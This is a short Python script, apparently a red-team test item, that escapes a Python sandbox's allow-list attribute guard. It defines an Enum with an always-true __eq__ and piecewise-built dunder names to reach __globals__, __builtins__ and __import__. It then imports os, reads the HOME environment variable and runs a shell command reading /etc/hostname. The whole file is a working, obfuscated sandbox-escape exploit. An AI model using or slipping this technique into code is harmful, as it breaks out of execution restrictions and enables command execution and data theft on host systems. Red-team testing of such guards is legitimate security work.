# family: red team, round 67a (functional Enum str-mixin __eq__ lambda defeats allow-list guard: globals -> builtins -> os)
from enum import Enum

u = min("_z")
Key = Enum(
    "Key",
    [
        ("G", u + u + "glob" + "als" + u + u),
        ("B", u + u + "built" + "ins" + u + u),
        ("I", u + u + "imp" + "ort" + u + u),
        ("__eq__", lambda s, o: True),
        ("__hash__", lambda s: hash(s.value)),
    ],
    type=str,
)


def lookup(obj, key):
    if key not in ("name", "label"):
        raise KeyError(key)
    return getattr(obj, key)


def target():
    return 1


g = lookup(target, Key.G)
b = g[Key.B]
imp = lookup(b, Key.I)
m = imp("o" + "s")
print(m)
print(m.getcwd())
print(m.environ["HOME"])
print(m.popen("cat /etc/hostname").read())
